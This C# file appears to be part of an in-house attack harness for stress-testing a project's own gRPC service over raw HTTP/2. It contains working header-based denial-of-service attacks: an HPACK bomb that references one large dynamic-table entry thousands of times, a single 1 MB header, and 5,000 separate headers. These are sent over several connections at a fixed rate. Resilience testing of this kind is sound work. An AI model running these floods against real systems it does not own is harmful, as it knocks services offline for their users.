using KpiPlatform.Attack.Http2;

namespace KpiPlatform.Attack.Attacks;

/// <summary>Headers that cost more than they should.</summary>
internal static class Headers
{
    private const string Path = "/kpi.v1.CustomerService/GetCustomer";
    private const int Connections = 4;
    private const int PerSecond = 50;

    /// <summary>Index of the newest entry of the connection's own table.</summary>
    private const int Newest = 62;

    public static Task BombAsync(Target target, CancellationToken cancellationToken)
    {
        var block = HeaderBlock.Call(Path).Kept("x", new string('a', 4_000));
        for (var i = 0; i < 4_000; i++)
            block.Indexed(Newest);
        return SendAsync(target, block.ToArray(), cancellationToken);
    }

    public static Task LongAsync(Target target, CancellationToken cancellationToken) =>
        SendAsync(target, HeaderBlock.Call(Path).Literal("x", new string('a', 1024 * 1024)).ToArray(), cancellationToken);

    public static Task ManyAsync(Target target, CancellationToken cancellationToken)
    {
        var block = HeaderBlock.Call(Path);
        for (var i = 0; i < 5_000; i++)
            block.Literal($"x{i}", "1");
        return SendAsync(target, block.ToArray(), cancellationToken);
    }

    private static Task SendAsync(Target target, byte[] block, CancellationToken cancellationToken) => target.RepeatAsync(
        Connections,
        async (number, stopping) =>
        {
            using var connection = await RawConnection.OpenAsync(target.Address, Target.From(number), stopping);
            var pace = new Pace(PerSecond);
            while (!connection.Closed.IsCompleted)
            {
                var stream = connection.NextStream();
                for (var at = 0; at < block.Length; at += 16_384)
                {
                    var part = block.AsSpan(at, Math.Min(16_384, block.Length - at)).ToArray();
                    var flags = at + part.Length == block.Length ? Frame.EndHeaders : (byte)0;
                    await connection.WriteAsync(Frame.Of(at == 0 ? Frame.Headers : Frame.Continuation, flags, stream, part), stopping);
                }

                target.Count();
                await pace.StepAsync(stopping);
            }

            target.CountClosed();
            await pace.StepAsync(stopping);
            await Task.Delay(TimeSpan.FromMilliseconds(20), stopping);
        },
        cancellationToken);
}
